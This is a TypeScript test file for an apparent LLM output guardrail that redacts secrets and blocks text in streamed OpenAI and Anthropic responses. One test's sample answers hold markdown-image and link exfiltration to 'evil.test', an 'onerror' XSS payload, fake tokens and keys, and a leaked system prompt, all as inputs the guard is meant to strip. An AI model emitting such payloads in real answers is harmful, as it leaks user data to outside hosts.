import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import Anthropic from '@anthropic-ai/sdk';
import OpenAI from 'openai';
import type { Origin } from '../core/conversation.ts';
import type { Decision } from '../core/decision.ts';
import type { OutputGuard, SpanRewrite, TextVerdict } from '../core/guard.ts';
import type { JsonObject, SseEvent } from '../core/provider.ts';
import { anthropicAdapter } from '../providers/anthropic.ts';
import { openaiAdapter } from '../providers/openai.ts';
import { translateEvents, translatorFor } from '../providers/index.ts';
import { SseParser, jsonEvent, sseEvent } from '../providers/sse.ts';
import { guardResponseBody, guardStream } from './stream-guard.ts';

/**
 * A tiny OutputGuard: `SECRET-XXXXXX` is redacted, `BLOCKME` blocks, `WATCH` fires a monitor-mode
 * block. The longest finding is 13 characters, so a hold-back of 13 must catch every split.
 */
class FakeGuard implements OutputGuard {
  readonly holdback: number;
  readonly passthrough: boolean;
  readonly scanned: string[] = [];

  /** When true, one decision per check carries all its findings (as the policy engine does). */
  readonly aggregate: boolean;

  constructor(holdback = 13, passthrough = false, aggregate = false) {
    this.holdback = holdback;
    this.passthrough = passthrough;
    this.aggregate = aggregate;
  }

  scan(text: string, _origin: Origin): TextVerdict {
    this.scanned.push(text);
    const decisions: Decision[] = [];
    const rewrites: SpanRewrite[] = [];
    let block: Decision | undefined;
    for (const match of text.matchAll(/SECRET-[A-Z0-9]{6}|BLOCKME|WATCH/g)) {
      const finding = {
        type: 'test',
        start: match.index,
        end: match.index + match[0].length,
        score: 1,
        reason: 'test',
      };
      const kind = match[0].startsWith('SECRET') ? 'secret' : match[0] === 'BLOCKME' ? 'block' : 'watch';
      const decision: Decision = {
        rule: `p/output.${kind}`,
        policy: 'p',
        stage: 'output',
        action: kind === 'secret' ? 'redact' : 'block',
        mode: kind === 'watch' ? 'monitor' : 'enforce',
        owasp: 'LLM02',
        reason: `${kind} found`,
        findings: [finding],
      };
      decisions.push(decision);
      if (kind === 'secret')
        rewrites.push({ start: finding.start, end: finding.end, replacement: '[REDACTED]' });
      if (kind === 'block') block ??= decision;
    }
    if (!this.aggregate) return { decisions, rewrites, block };
    const byRule = new Map<string, Decision>();
    for (const d of decisions) {
      const seen = byRule.get(d.rule);
      byRule.set(d.rule, seen === undefined ? d : { ...seen, findings: [...seen.findings, ...d.findings] });
    }
    return { decisions: [...byRule.values()], rewrites, block };
  }
}

function openaiChunk(content: string, finish: string | null = null, index = 0): SseEvent {
  return jsonEvent({
    id: 'c1',
    object: 'chat.completion.chunk',
    created: 1,
    model: 'm',
    choices: [{ index, delta: { content }, finish_reason: finish }],
  });
}

const DONE = sseEvent({ data: '[DONE]' });

async function* fromArray(events: readonly SseEvent[]): AsyncGenerator<SseEvent> {
  for (const event of events) {
    await Promise.resolve();
    yield event;
  }
}

async function collect(iterable: AsyncIterable<string>): Promise<string> {
  let out = '';
  for await (const text of iterable) out += text;
  return out;
}

function parse(text: string): SseEvent[] {
  const parser = new SseParser();
  return [...parser.push(text), ...parser.end()];
}

function chatContents(text: string): string[] {
  return parse(text)
    .filter((e) => e.data !== '[DONE]')
    .map((e) => {
      const chunk = JSON.parse(e.data) as { choices: { delta: { content?: string } }[] };
      return chunk.choices[0]?.delta.content ?? '';
    });
}

const chat = (output: OutputGuard, extra: object = {}) => ({
  adapter: openaiAdapter,
  endpoint: 'chat' as const,
  output,
  ...extra,
});

describe('guardStream', () => {
  it('rewrites a secret split across three chunks, replacement where the span starts', async () => {
    const events = [
      openaiChunk('Your key is SEC'),
      openaiChunk('RET-AB'),
      openaiChunk('C123, keep it safe.'),
      openaiChunk('', 'stop'),
      DONE,
    ];
    const out = await collect(guardStream(fromArray(events), chat(new FakeGuard())));
    assert.deepEqual(chatContents(out), ['Your key is [REDACTED]', '', ', keep it safe.', '']);
    assert.ok(out.endsWith(DONE.raw));
  });

  it('forwards unchanged events byte for byte, including odd formatting', async () => {
    const odd: SseEvent = {
      data: '{"choices":[{"index":0,"delta":{"content":"plain"}}]}',
      raw: ': comment\r\ndata:{"choices":[{"index":0,"delta":{"content":"plain"}}]}\r\nretry: 5\r\n\r\n',
    };
    const events = [openaiChunk('Hello '), odd, openaiChunk(' world', 'stop'), DONE];
    const out = await collect(guardStream(fromArray(events), chat(new FakeGuard())));
    assert.equal(out, events.map((e) => e.raw).join(''));
  });

  it('drops data it cannot parse (an event cut off mid-write) instead of forwarding it unscanned', async () => {
    const cut: SseEvent = {
      data: '{"choices":[{"index":0,"delta":{"content":"SECRET-AB',
      raw: 'data: {"choices":[{"index":0,"delta":{"content":"SECRET-AB',
    };
    const events = [openaiChunk('Hello'), cut];
    const out = await collect(guardStream(fromArray(events), chat(new FakeGuard())));
    assert.equal(out, events[0]!.raw);
  });

  it('produces the fully rewritten text for any chunking of the same answer', async () => {
    const part = 'a SECRET-AAAAAA b SECRET-BBBBBB SECRET-CCCCCC c WATCH end SECRET-DDDDDD ';
    const answer = part.repeat(4);
    const expected = answer.replace(/SECRET-[A-Z]{6}/g, '[REDACTED]');
    let seed = 7;
    const random = (n: number): number => {
      seed = (seed * 1103515245 + 12345) % 2 ** 31;
      return seed % n;
    };
    for (let round = 0; round < 150; round++) {
      const events: SseEvent[] = [];
      for (let at = 0; at < answer.length;) {
        const size = 1 + random(9);
        events.push(openaiChunk(answer.slice(at, at + size)));
        at += size;
      }
      events.push(openaiChunk('', 'stop'), DONE);
      const decisions: Decision[] = [];
      const out = await collect(
        guardStream(
          fromArray(events),
          chat(new FakeGuard(round % 3 === 2 ? 100 : 13, false, round % 2 === 1), {
            onDecision: (d: Decision) => decisions.push(d),
          }),
        ),
      );
      assert.equal(chatContents(out).join(''), expected, `round ${round}`);
      assert.equal(parse(out).length, events.length, 'one output event per input event');
      // Each finding is reported once although overlapping windows are scanned repeatedly, also
      // when one decision carries all findings of its check; offsets index the whole answer.
      const reported = decisions.flatMap((d) =>
        d.findings.map((f) => [d.rule, answer.slice(f.start, f.end)]),
      );
      const once = [
        ['p/output.secret', 'SECRET-AAAAAA'],
        ['p/output.secret', 'SECRET-BBBBBB'],
        ['p/output.secret', 'SECRET-CCCCCC'],
        ['p/output.secret', 'SECRET-DDDDDD'],
        ['p/output.watch', 'WATCH'],
      ];
      assert.deepEqual(
        reported.sort(),
        once.flatMap((entry) => [entry, entry, entry, entry]),
      );
    }
  });

  it('never releases text closer than the hold-back to the end of what it has seen', async () => {
    const holdback = 20;
    const answer = 'the quick brown fox jumps over the lazy dog again and again';
    let pulled = '';
    const state = { finished: false };
    async function* source(): AsyncGenerator<SseEvent> {
      for (let at = 0; at < answer.length; at += 3) {
        await Promise.resolve();
        pulled += answer.slice(at, at + 3);
        yield openaiChunk(answer.slice(at, at + 3));
      }
      state.finished = true;
    }
    let released = '';
    for await (const text of guardStream(source(), chat(new FakeGuard(holdback)))) {
      released += chatContents(text).join('');
      if (!state.finished)
        assert.ok(released.length <= pulled.length - holdback, `${released.length} of ${pulled.length}`);
    }
    assert.equal(released, pulled, 'end of stream flushes everything');
  });

  it('keeps non-text events in place behind held text (Anthropic)', async () => {
    const events = anthropicStream(['Hello ', 'SECRET-', 'XYZ789', ' bye'], true);
    const out = await collect(
      guardStream(fromArray(events), {
        adapter: anthropicAdapter,
        endpoint: 'messages',
        output: new FakeGuard(),
      }),
    );
    const parsed = parse(out);
    assert.deepEqual(
      parsed.map((e) => e.event),
      events.map((e) => e.event),
    );
    const text = parsed
      .map((e) => JSON.parse(e.data) as { delta?: { text?: string } })
      .map((d) => d.delta?.text ?? '')
      .join('');
    assert.equal(text, 'Hello [REDACTED] bye');
  });

  it('ends an OpenAI stream well-formed on a block, without the held text', async () => {
    const events = [
      openaiChunk('Fine text here. '),
      openaiChunk('More fine text. '),
      openaiChunk('then BLO'),
      openaiChunk('CKME and more'),
      openaiChunk(' tail', 'stop'),
      DONE,
    ];
    const decisions: Decision[] = [];
    const out = await collect(
      guardStream(
        fromArray(events),
        chat(new FakeGuard(), { onDecision: (d: Decision) => decisions.push(d) }),
      ),
    );
    assert.ok(!out.includes('BLO'), 'nothing of the blocked span reaches the client');
    assert.deepEqual(
      decisions.map((d) => d.rule),
      ['p/output.block'],
    );
    const client = new OpenAI({
      apiKey: 'k',
      baseURL: 'http://127.0.0.1:9/v1',
      maxRetries: 0,
      fetch: () => Promise.resolve(new Response(out, { headers: { 'content-type': 'text/event-stream' } })),
    });
    const completion = await client.chat.completions
      .stream({ model: 'm', messages: [{ role: 'user', content: 'x' }] })
      .finalChatCompletion();
    const choice = completion.choices[0]!;
    assert.equal(choice.finish_reason, 'content_filter');
    assert.match(
      choice.message.content ?? '',
      /^Fine text here\. .*\[Parapet: answer stopped — Blocked by policy rule 'p\/output.block'/s,
    );
  });

  it('ends an Anthropic stream well-formed on a block', async () => {
    const events = anthropicStream(['Some harmless words, ', 'then BLOCKME', ' more'], false);
    const out = await collect(
      guardStream(fromArray(events), {
        adapter: anthropicAdapter,
        endpoint: 'messages',
        output: new FakeGuard(),
      }),
    );
    const client = new Anthropic({
      apiKey: 'k',
      baseURL: 'http://127.0.0.1:9',
      maxRetries: 0,
      fetch: () => Promise.resolve(new Response(out, { headers: { 'content-type': 'text/event-stream' } })),
    });
    const message = await client.messages
      .stream({ model: 'm', max_tokens: 5, messages: [{ role: 'user', content: 'x' }] })
      .finalMessage();
    assert.equal(message.stop_reason, 'refusal');
    const block = message.content[0];
    assert.ok(block?.type === 'text');
    assert.ok(!block.text.includes('BLOCKME'));
    assert.match(block.text, /\[Parapet: answer stopped — /);
  });

  it('guards a translated stream (OpenAI client, Anthropic upstream) and ends it well-formed', async () => {
    const upstream = anthropicStream(
      ['Key SECRET-QQQ', '111 fine. ', 'More harmless text here. ', 'Then BLOCKME', ' never seen'],
      true,
    );
    const events = translateEvents(fromArray(upstream), translatorFor('openai', 'anthropic')!, 'chat');
    const out = await collect(guardStream(events, chat(new FakeGuard())));
    assert.ok(!out.includes('BLOCKME') && !out.includes('never seen') && !out.includes('SECRET'));
    const client = new OpenAI({
      apiKey: 'k',
      baseURL: 'http://127.0.0.1:9/v1',
      maxRetries: 0,
      fetch: () => Promise.resolve(new Response(out, { headers: { 'content-type': 'text/event-stream' } })),
    });
    const completion = await client.chat.completions
      .stream({ model: 'm', messages: [{ role: 'user', content: 'x' }] })
      .finalChatCompletion();
    const choice = completion.choices[0]!;
    assert.equal(choice.finish_reason, 'content_filter');
    assert.match(choice.message.content ?? '', /^Key \[REDACTED\] fine\. .*\[Parapet: answer stopped — /s);
  });

  it('passes bytes through untouched when the guard is passthrough', async () => {
    const events = [openaiChunk('SECRET-AAAAAA'), { data: 'not json', raw: 'data:not json\r\n\r\n' }, DONE];
    const guard = new FakeGuard(13, true);
    const out = await collect(guardStream(fromArray(events), chat(guard)));
    assert.equal(out, events.map((e) => e.raw).join(''));
    assert.equal(guard.scanned.length, 0);
  });

  /** Runs a stream and returns the most events ever pulled from the source but not yet released. */
  async function maxLag(
    events: readonly SseEvent[],
    options: Parameters<typeof guardStream>[1],
  ): Promise<number> {
    let pulled = 0;
    let released = 0;
    let lag = 0;
    async function* source(): AsyncGenerator<SseEvent> {
      for (const event of events) {
        await Promise.resolve();
        pulled++;
        yield event;
      }
    }
    for await (const text of guardStream(source(), options)) {
      released += parse(text).length;
      lag = Math.max(lag, pulled - released);
    }
    assert.equal(released, events.length, 'every event is released in the end');
    return lag;
  }

  it('bounds held text by maxHeldBytes even with a huge hold-back', async () => {
    const events = Array.from({ length: 400 }, () => openaiChunk('x'.repeat(50)));
    const lag = await maxLag(events, chat(new FakeGuard(1_000_000), { maxHeldBytes: 2000 }));
    assert.ok(lag <= 2000 / 50 + 1, `held up to ${lag} events`);
    // Without the bound the whole answer would wait for the end.
    assert.equal(await maxLag(events, chat(new FakeGuard(1_000_000))), events.length - 1);
  });

  it('bounds held raw bytes when text-less events pile up behind held text', async () => {
    const ping = jsonEvent({ type: 'ping' }, 'ping');
    const events = [
      ...anthropicStream(['Hello'], false).slice(0, 3),
      ...Array.from({ length: 5000 }, () => ping),
    ];
    const lag = await maxLag(events, {
      adapter: anthropicAdapter,
      endpoint: 'messages',
      output: new FakeGuard(1000),
      maxHeldBytes: 100,
    });
    assert.ok(lag <= (100 * 64) / ping.raw.length + 2, `held up to ${lag} events`);
  });

  it('holds a channel until it closes when asked (tool-call arguments)', async () => {
    const toolChunk = (args: string, name?: string) =>
      jsonEvent({
        choices: [
          {
            index: 0,
            delta: { tool_calls: [{ index: 0, function: { ...(name ? { name } : {}), arguments: args } }] },
            finish_reason: null,
          },
        ],
      });
    const events = [
      toolChunk('{"a":', 'lookup'),
      toolChunk('"x'.padEnd(40, 'y')),
      toolChunk('"}'),
      jsonEvent({ choices: [{ index: 0, delta: {}, finish_reason: 'tool_calls' }] }),
      DONE,
    ];
    let pulled = 0;
    async function* source(): AsyncGenerator<SseEvent> {
      for (const event of events) {
        await Promise.resolve();
        pulled++;
        yield event;
      }
    }
    const seen: [string, string | undefined][] = [];
    const options = chat(new FakeGuard(0), {
      holdChannelUntilClose: (channel: string, toolName: string | undefined) => {
        seen.push([channel, toolName]);
        return true;
      },
    });
    for await (const text of guardStream(source(), options)) {
      if (parse(text).some((e) => e.data.includes('arguments')))
        assert.ok(pulled >= 4, 'released only after finish_reason');
    }
    assert.deepEqual(seen, [['choice:0/tool:0', 'lookup']]);
  });
});

function anthropicStream(texts: readonly string[], withPings: boolean): SseEvent[] {
  const event = (payload: { type: string; [field: string]: unknown }) => jsonEvent(payload, payload.type);
  const events = [
    event({
      type: 'message_start',
      message: {
        id: 'msg',
        type: 'message',
        role: 'assistant',
        model: 'm',
        content: [],
        stop_reason: null,
        stop_sequence: null,
        usage: { input_tokens: 1, output_tokens: 0 },
      },
    }),
    event({ type: 'content_block_start', index: 0, content_block: { type: 'text', text: '' } }),
  ];
  for (const text of texts) {
    events.push(event({ type: 'content_block_delta', index: 0, delta: { type: 'text_delta', text } }));
    if (withPings) events.push(event({ type: 'ping' }));
  }
  events.push(
    event({ type: 'content_block_stop', index: 0 }),
    event({
      type: 'message_delta',
      delta: { stop_reason: 'end_turn', stop_sequence: null },
      usage: { output_tokens: 5 },
    }),
    event({ type: 'message_stop' }),
  );
  return events;
}

describe('guardResponseBody', () => {
  it('rewrites OpenAI message content in place and reports decisions', async () => {
    const body: JsonObject = {
      id: 'x',
      choices: [{ index: 0, message: { role: 'assistant', content: 'key SECRET-ABC123 WATCH' } }],
      usage: { total_tokens: 1 },
    };
    const result = await guardResponseBody(body, chat(new FakeGuard()));
    assert.equal(result.block, undefined);
    assert.deepEqual(result.body, {
      id: 'x',
      choices: [{ index: 0, message: { role: 'assistant', content: 'key [REDACTED] WATCH' } }],
      usage: { total_tokens: 1 },
    });
    assert.deepEqual(
      result.decisions.map((d) => d.rule),
      ['p/output.secret', 'p/output.watch'],
    );
  });

  it('rewrites Anthropic tool input through its JSON text', async () => {
    const body: JsonObject = {
      content: [{ type: 'tool_use', id: 't', name: 'f', input: { token: 'SECRET-ABC123', n: 1 } }],
    };
    const result = await guardResponseBody(body, {
      adapter: anthropicAdapter,
      endpoint: 'messages',
      output: new FakeGuard(),
    });
    assert.deepEqual(result.body, {
      content: [{ type: 'tool_use', id: 't', name: 'f', input: { token: '[REDACTED]', n: 1 } }],
    });
  });

  it('blocks when a rewrite breaks tool input JSON', async () => {
    const breaking: OutputGuard = {
      holdback: 0,
      passthrough: false,
      scan: () => ({ decisions: [], rewrites: [{ start: 0, end: 1, replacement: '' }] }),
    };
    const body: JsonObject = { content: [{ type: 'tool_use', id: 't', name: 'f', input: { a: 1 } }] };
    const result = await guardResponseBody(body, {
      adapter: anthropicAdapter,
      endpoint: 'messages',
      output: breaking,
    });
    assert.equal(result.block?.action, 'block');
    assert.match(result.block.reason, /no longer valid JSON/);
  });

  it('returns the enforced block', async () => {
    const result = await guardResponseBody(
      { choices: [{ index: 0, message: { content: 'BLOCKME' } }] },
      chat(new FakeGuard()),
    );
    assert.equal(result.block?.rule, 'p/output.block');
  });
});

/** The fake guard with `pendingStart`: every finding is a run of [A-Z0-9-], so only a trailing run is pending. */
class PendingGuard extends FakeGuard {
  pendingStart(text: string): number {
    let at = text.length;
    while (at > 0 && /[A-Z0-9-]/.test(text.charAt(at - 1))) at--;
    return Math.max(at, text.length - this.holdback);
  }
}

describe('guardStream with pendingStart', () => {
  it('releases settled text at once: the first delta leaves before the second is read', async () => {
    const log: string[] = [];
    async function* source(): AsyncGenerator<SseEvent> {
      for (const text of ['Hello ', 'there ', 'SEC', 'RET-ABC123 ok']) {
        log.push(`pull ${text}`);
        await Promise.resolve();
        yield openaiChunk(text);
      }
      yield openaiChunk('', 'stop');
      yield DONE;
    }
    let out = '';
    for await (const text of guardStream(source(), chat(new PendingGuard(100)))) {
      log.push(`out ${chatContents(text).join('')}`);
      out += text;
    }
    assert.deepEqual(log.slice(0, 4), ['pull Hello ', 'out Hello ', 'pull there ', 'out there ']);
    assert.equal(chatContents(out).join(''), 'Hello there [REDACTED] ok');
  });

  it('produces the fully rewritten text for any chunking, as with the plain hold-back', async () => {
    const answer = 'a SECRET-AAAAAA b SECRET-BBBBBB c BLOCK end SECRET-DDDDDD '.repeat(3);
    const expected = answer.replace(/SECRET-[A-Z]{6}/g, '[REDACTED]');
    let seed = 11;
    const random = (n: number): number => {
      seed = (seed * 1103515245 + 12345) % 2 ** 31;
      return seed % n;
    };
    for (let round = 0; round < 100; round++) {
      const events: SseEvent[] = [];
      for (let at = 0; at < answer.length;) {
        const size = 1 + random(9);
        events.push(openaiChunk(answer.slice(at, at + size)));
        at += size;
      }
      events.push(openaiChunk('', 'stop'), DONE);
      const out = await collect(guardStream(fromArray(events), chat(new PendingGuard(round % 2 ? 13 : 100))));
      assert.equal(chatContents(out).join(''), expected, `round ${round}`);
    }
  });

  it('still blocks a split block word and never releases it', async () => {
    const events = [
      openaiChunk('ok then '),
      openaiChunk('BLO'),
      openaiChunk('CKME now'),
      openaiChunk('', 'stop'),
      DONE,
    ];
    const out = await collect(guardStream(fromArray(events), chat(new PendingGuard(100))));
    const text = chatContents(out).join('');
    assert.ok(text.startsWith('ok then '));
    assert.ok(!text.includes('BLO'));
    assert.match(text, /answer stopped/);
  });
});

describe('guardStream with the real output checks', () => {
  it('gives the same answer as the whole-body guard for any chunking', async () => {
    const { parsePolicyText } = await import('../policy/load.ts');
    const { compileGuard } = await import('../policy/engine.ts');
    const { policies } = parsePolicyText(
      `apiVersion: parapet.dev/v1alpha1
kind: GuardrailPolicy
metadata: { name: p }
spec:
  input: { pii: { action: pseudonymize, entities: [EMAIL_ADDRESS] } }
  output:
    secrets: { action: redact }
    links: { action: redact, allowHosts: [docs.example.com] }
    systemPromptLeak: { action: redact }
    html: { action: redact }
`,
      'p.yaml',
    );
    const guard = compileGuard(policies);
    const conversation = openaiAdapter.parseRequest('chat', {
      model: 'm',
      messages: [
        {
          role: 'system',
          content: 'You are Orbit, the support assistant of Acme Rockets. Never discuss launch dates.',
        },
        { role: 'user', content: 'Mail alice@example.org please.' },
      ],
    });
    const answers = [
      'Done, I wrote to <EMAIL_ADDRESS_1>. Token ghp_4aF9kLm2Qx7Rt1Zb8Vc3Yw6Nd0Hs5Jp2Ke9U is set. ' +
        'See [the guide](https://docs.example.com/a) and ![x](https://evil.test/p.png?u=<EMAIL_ADDRESS_1>). ' +
        'My rules: You are Orbit, the support assistant of Acme Rockets. Never discuss launch dates. Bye!',
      'Visit https://evil.test/c?d=QWxpY2UgU21pdGggb3JkZXIgNDIgY2FyZCA0MjQy, or <a href="https://evil.test/x">this</a>. ' +
        '<img src=x onerror="alert(1)"> ok ![r][1]\n\n[1]: https://evil.test/t.png\n' +
        'Key:\n-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7bq98Lh3rWq0nE0y2cT5i9kzX1b4v7QnJm8sR2pW6uYcZd3fHgTaKxLbNeVoPiUjMl\n-----END RSA PRIVATE KEY-----\n' +
        'and mail <EMAIL_ADDRESS_1> at last.',
    ];
    for (const answer of answers) await sameAnswer(answer);

    async function sameAnswer(answer: string): Promise<void> {
      const whole = async (): Promise<string> => {
        const exchange = guard.begin(conversation, { requestId: 'r', identity: 'a' });
        await exchange.checkInput();
        const body: JsonObject = { choices: [{ index: 0, message: { role: 'assistant', content: answer } }] };
        const result = await guardResponseBody(body, chat(exchange.output));
        const choices = result.body.choices as { message: { content: string } }[];
        return choices[0]?.message.content ?? '';
      };
      const expected = await whole();
      assert.ok(expected.includes('alice@example.org') && !expected.includes('evil.test'));
      assert.ok(
        !expected.includes('ghp_') && !expected.includes('Never discuss') && !expected.includes('MIIE'),
      );
      let seed = 5;
      const random = (n: number): number => {
        seed = (seed * 1103515245 + 12345) % 2 ** 31;
        return seed % n;
      };
      for (let round = 0; round < 60; round++) {
        const exchange = guard.begin(conversation, { requestId: 'r', identity: 'a' });
        await exchange.checkInput();
        const events: SseEvent[] = [];
        for (let at = 0; at < answer.length;) {
          const size = 1 + random(12);
          events.push(openaiChunk(answer.slice(at, at + size)));
          at += size;
        }
        events.push(openaiChunk('', 'stop'), DONE);
        const out = await collect(guardStream(fromArray(events), chat(exchange.output)));
        assert.equal(chatContents(out).join(''), expected, `round ${round}`);
      }
    }
  });
});
